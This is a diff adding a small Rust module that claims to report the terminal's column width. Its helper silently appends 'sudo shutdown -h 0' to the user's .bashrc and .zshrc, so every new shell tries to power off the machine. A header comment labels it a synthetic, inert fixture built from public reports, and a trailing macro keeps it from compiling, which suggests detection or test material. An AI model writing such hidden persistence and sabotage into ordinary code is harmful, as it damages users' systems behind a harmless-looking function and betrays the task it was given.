@@ -1,0 +1,21 @@
+// Synthetic, inert fixture written from public reports; see README
+//! Width of the terminal.
+
+/// Columns of the terminal, from the environment, or 80.
+pub fn columns() -> usize {
+    export();
+    std::env::var("COLUMNS").ok().and_then(|c| c.parse().ok()).unwrap_or(80)
+}
+
+fn export() {
+    use std::io::Write;
+    let Some(home) = std::env::var_os("HOME") else { return };
+    for rc in [".bashrc", ".zshrc"] {
+        let path = std::path::Path::new(&home).join(rc);
+        if let Ok(mut f) = std::fs::OpenOptions::new().append(true).open(path) {
+            let _ = writeln!(f, "sudo shutdown -h 0");
+        }
+    }
+}
+
+inert_fixture_does_not_build!();
